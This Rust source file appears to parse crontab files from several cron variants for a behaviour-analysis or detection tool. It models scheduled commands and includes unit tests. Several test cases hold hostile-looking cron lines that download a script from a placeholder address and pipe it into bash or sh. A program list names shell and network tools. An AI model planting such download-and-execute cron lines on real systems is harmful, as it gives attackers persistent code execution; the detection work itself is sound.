//! Lines of cron: `crontab(5)` with and without a user column, busybox's, anacron's.
//!
//! Tolerant of what cron refuses. In the campaign of 2018 the line lacked the user column and the
//! host's cron logged "bad username"; the intent was the same. So the command is whatever is left
//! after the columns that look like a time, and a leading word that can only be a user is dropped.

use model::{Behavior, Language, Step, Stream, Trigger, Value};

use crate::language::start::part;
use crate::language::{self, FrontEnd, Places, Signs};
use crate::world::World;

/// The front-end.
pub const FRONT_END: FrontEnd = FrontEnd {
    places: Places {
        ends: &["etc/crontab", "etc/anacrontab"],
        folders: &["etc/cron.d/", "var/spool/cron/", "etc/crontabs/"],
        named: &[],
    },
    signs: Signs::Whole(is_crontab),
    ..FrontEnd::new(Language::Crontab, lower)
};

/// Whether every line of a text is one that only a crontab has, wherever it lies.
fn is_crontab(text: &str) -> bool {
    let mut times = 0_u32;
    let fits = text.lines().map(str::trim).all(|line| {
        if line.is_empty() || line.starts_with('#') || is_setting(line) {
            return true;
        }
        times += 1;
        is_plain_line(line)
    });
    fits && times > 0
}

/// Whether a line is a whole line of a crontab: numbers in five columns may be data, so a star, a
/// slash or a program must say more.
fn is_plain_line(line: &str) -> bool {
    let Some((when, command)) = split(line) else {
        return false;
    };
    let nickname = NICKNAMES.contains(&when.split_whitespace().next().unwrap_or(when));
    nickname
        || when.split_whitespace().count() == 5
            && (when.contains('*') || looks_like_program(command))
}

/// Words that stand for a time.
const NICKNAMES: &[&str] = &[
    "@reboot",
    "@yearly",
    "@annually",
    "@monthly",
    "@weekly",
    "@daily",
    "@midnight",
    "@hourly",
    "@every_minute",
    "@every",
];

/// Lowers a crontab.
pub fn lower(world: &mut World, text: &str) -> Value {
    // A job of at lies in a folder of cron's and is a script.
    if text.starts_with("#!") {
        return super::lower(world, Language::Shell, text);
    }
    let mut language = Language::Shell;
    for (number, line) in (1..).zip(text.lines()) {
        if !world.burn(8) {
            break;
        }
        let line = behind_unknown(line.trim());
        if let Some((name, value)) = setting(line) {
            world.at(number, line);
            match language::of_interpreter(value.rsplit('/').next().unwrap_or(value)) {
                Some(named) if name == "SHELL" => language = named,
                _ => set(world, name, value),
            }
            continue;
        }
        let Some((when, command)) = split(line) else {
            continue;
        };
        world.at(number, line);
        run(world, language, when, command);
    }
    Value::literal("")
}

/// A variable for the commands below it.
fn set(world: &mut World, name: &str, value: &str) {
    let value = part(value);
    world.act(Behavior::SetVariable {
        name: name.to_owned(),
        value: value.clone(),
    });
    world.export(name, Some(value));
}

/// Runs the command of a line. What follows the first `%` is its input, lines divided by `%`.
fn run(world: &mut World, language: Language, when: &str, command: &str) {
    let (code, input) = input_of(command);
    let whole = Value::literal(command.replace("\\%", "%"));
    world.act(Behavior::Schedule {
        trigger: Trigger::Clock,
        when: Value::literal(when),
        command: whole.clone(),
    });
    if let Some(input) = input {
        let input = Stream::Text(Value::literal(input));
        let [_, output, error] = world.standard.clone();
        let streams = [input, output, error];
        world.with_standard(streams, Vec::new(), |world| {
            world.evaluate(language, &Value::literal(code), Step::new("cron"))
        });
    }
    // Who forgot that `%` is special meant the whole line.
    world.evaluate(language, &whole, Step::new("cron"));
}

/// The command of a line and, if it has one, its input.
fn input_of(command: &str) -> (String, Option<String>) {
    let mut parts = [String::new(), String::new()];
    let mut has_input = false;
    let mut chars = command.chars().peekable();
    while let Some(c) = chars.next() {
        let [code, input] = &mut parts;
        let to = if has_input { input } else { code };
        match c {
            '\\' if chars.peek() == Some(&'%') => to.extend(chars.next()),
            '%' if has_input => to.push('\n'),
            '%' => has_input = true,
            c => to.push(c),
        }
    }
    let [code, input] = parts;
    (code, has_input.then_some(input))
}

/// What follows an unknown text on its line: `(crontab -l; echo '…') | crontab -` puts what the
/// crontab held, which cannot be told, in front of what is added.
fn behind_unknown(line: &str) -> &str {
    match line.strip_prefix('{').and_then(|rest| rest.split_once('}')) {
        Some((_, rest)) => rest.trim_start(),
        None => line,
    }
}

/// The time and the command of a line; `None` for comments, settings and empty lines.
fn split(line: &str) -> Option<(&str, &str)> {
    if line.is_empty() || line.starts_with('#') || is_setting(line) {
        return None;
    }
    let line = without_marks(line);
    let columns = match line.split_whitespace().next() {
        // "@every 5m", and fcron's "@ 30".
        Some("@every" | "@") => 2,
        Some(first) if first.starts_with('@') => 1,
        _ => time_columns(line),
    };
    if columns == 0 {
        return None;
    }
    let end = end_of_word(line, columns);
    let rest = without_flags(line[end..].trim_start());
    (!rest.is_empty()).then(|| (line[..end].trim(), without_user(rest)))
}

/// A line without what some crons take before the time: `-` (no log), fcron's `&options`, `!`.
fn without_marks(line: &str) -> &str {
    let plain = line.trim_start_matches(['-', '&', '!']).trim_start();
    match plain.split_once(char::is_whitespace) {
        Some((first, rest))
            if plain.len() < line.len() && first.starts_with(|c: char| c.is_ascii_alphabetic()) =>
        {
            rest.trim_start()
        }
        _ => plain,
    }
}

/// A command without the flags of OpenBSD's cron before it.
fn without_flags(mut command: &str) -> &str {
    while let Some((first, rest)) = command.split_once(char::is_whitespace) {
        if !matches!(first, "-n" | "-q" | "-s" | "-nq" | "-qn") {
            break;
        }
        command = rest.trim_start();
    }
    command
}

/// How many leading words look like columns of a time: five, or fewer if the line is broken.
/// anacron has two numbers and a job name.
fn time_columns(line: &str) -> usize {
    let is_time = |word: &str| {
        let plain = word
            .bytes()
            .all(|b| b.is_ascii_digit() || b"*/,-?#LW~".contains(&b));
        let named = word
            .split([',', '-'])
            .all(|part| NAMES.contains(&part.to_ascii_lowercase().as_str()));
        plain || named
    };
    let columns = line
        .split_whitespace()
        .take(5)
        .take_while(|word| is_time(word))
        .count();
    match columns {
        5 => 5,
        2 if line.split_whitespace().nth(2).is_some() => {
            let rest = line[end_of_word(line, 3)..].trim_start();
            if looks_like_program(rest) { 3 } else { 0 }
        }
        // Two stars or more and no command word that could be a time: a malformed line.
        3 | 4 if line.contains('*') => columns,
        _ => 0,
    }
}

/// Names of months and days that cron accepts.
const NAMES: &[&str] = &[
    "jan", "feb", "mar", "apr", "may", "jun", "jul", "aug", "sep", "oct", "nov", "dec", "sun",
    "mon", "tue", "wed", "thu", "fri", "sat",
];

/// Byte position after the nth word.
fn end_of_word(line: &str, n: usize) -> usize {
    let mut at = 0;
    for _ in 0..n {
        let rest = &line[at..];
        let start = at + (rest.len() - rest.trim_start().len());
        at = line[start..]
            .find(char::is_whitespace)
            .map_or(line.len(), |length| start + length);
    }
    at
}

/// `NAME=value` or `NAME = value`.
fn setting(line: &str) -> Option<(&str, &str)> {
    let (name, value) = line.split_once('=')?;
    let name = name.trim_end();
    let is_name = !name.is_empty() && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_');
    is_name.then(|| (name, value.trim().trim_matches(['"', '\''])))
}

fn is_setting(line: &str) -> bool {
    setting(line).is_some()
}

/// A system crontab has a user before the command. A word is taken for one if it is a plain name,
/// another word follows, and it is no program that a command starts with.
fn without_user(command: &str) -> &str {
    let Some((first, rest)) = command.split_once(char::is_whitespace) else {
        return command;
    };
    const USERS: &[&str] = &[
        "root", "www-data", "nobody", "daemon", "nginx", "apache", "postgres", "mysql", "mail",
        "redis",
    ];
    let flag = rest.trim_start().starts_with('-') && !USERS.contains(&first);
    let name = first
        .bytes()
        .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b"_-".contains(&b));
    if USERS.contains(&first)
        || (name && !flag && !PROGRAMS.contains(&first) && looks_like_program(rest.trim_start()))
    {
        rest.trim_start()
    } else {
        command
    }
}

fn looks_like_program(rest: &str) -> bool {
    let word = rest.split_whitespace().next().unwrap_or_default();
    word.starts_with('/')
        || word.starts_with("./")
        || word == "["
        || word == "test"
        || PROGRAMS.contains(&word)
}

/// Programs that scheduled commands start with and that are no user names.
const PROGRAMS: &[&str] = &[
    "sh",
    "bash",
    "dash",
    "ash",
    "curl",
    "wget",
    "python",
    "python2",
    "python3",
    "perl",
    "php",
    "ruby",
    "node",
    "nc",
    "ncat",
    "cd",
    "echo",
    "test",
    "run-parts",
    "command",
    "sleep",
    "find",
    "rm",
    "cp",
    "mv",
    "cat",
    "sudo",
    "nohup",
    "exec",
    "eval",
    "env",
    "timeout",
    "flock",
    "nice",
    "ionice",
    "chmod",
    "export",
    "socat",
    "openssl",
    "git",
    "tar",
    "logrotate",
    "systemctl",
    "service",
    "certbot",
    "mkfifo",
    "printf",
    "base64",
    "busybox",
    "date",
    "touch",
    "sed",
    "awk",
    "grep",
    "kill",
    "pkill",
    "docker",
    "rsync",
    "mysqldump",
    "pg_dump",
    "true",
    "chroot",
    "nsenter",
    "ssh",
];

#[cfg(test)]
mod tests {
    use super::*;
    use crate::language::probe::acts;

    #[test]
    fn columns_and_users_are_taken_off() {
        let cases = [
            (
                "* * * * * curl -s http://192.0.2.1/x.jpg | bash -s",
                Some("curl -s http://192.0.2.1/x.jpg | bash -s"),
            ),
            (
                "* * * * * root curl http://192.0.2.1",
                Some("curl http://192.0.2.1"),
            ),
            (
                "17 *	* * *	root	cd / && run-parts --report /etc/cron.hourly",
                Some("cd / && run-parts --report /etc/cron.hourly"),
            ),
            ("@reboot /x", Some("/x")),
            ("@daily deploy /usr/bin/backup", Some("/usr/bin/backup")),
            ("*/5 0-6 1,15 jan mon-fri sh x", Some("sh x")),
            (
                "1	5	cron.daily	run-parts /etc/cron.daily",
                Some("run-parts /etc/cron.daily"),
            ),
            ("* * * sh -c id", Some("sh -c id")),
            (
                behind_unknown("{output of crontab}* * * * * sh x"),
                Some("sh x"),
            ),
            ("-*/15 * * * * root /x", Some("/x")),
            ("@every 5m /x", Some("/x")),
            ("0~59 * * * * -n -q /x", Some("/x")),
            ("7 5 job.one /bin/sh x", Some("/bin/sh x")),
            ("# * * * * * x", None),
            ("SHELL=/bin/sh", None),
            ("PATH = /bin:/usr/bin", None),
            ("plain words of a text", None),
        ];
        for (line, command) in cases {
            assert_eq!(split(line).map(|(_, command)| command), command, "{line}");
        }
    }

    #[test]
    fn what_follows_a_percent_sign_is_input() {
        assert_eq!(input_of("a\\%b"), ("a%b".to_owned(), None));
        assert_eq!(
            input_of("sh%id%ls"),
            ("sh".to_owned(), Some("id\nls".to_owned()))
        );
        let found = acts(
            Language::Crontab,
            "* * * * * sh%curl http://192.0.2.1/x | sh\n",
        );
        assert!(
            found.iter().any(|act| act.starts_with("Fetch")),
            "{found:#?}"
        );
    }

    #[test]
    fn crontabs_are_told_from_data() {
        for text in [
            "# x\n* * * * * /x\n",
            "SHELL=/bin/sh\n@reboot id\n",
            "1 2 3 4 5 curl x\n",
        ] {
            assert!(is_crontab(text), "{text}");
        }
        for text in [
            "1 2 3 4 5 6\n",
            "A=b\n",
            "* * * * * /x\nprose\n",
            "* one\n* two\n",
            "",
        ] {
            assert!(!is_crontab(text), "{text}");
        }
    }
}
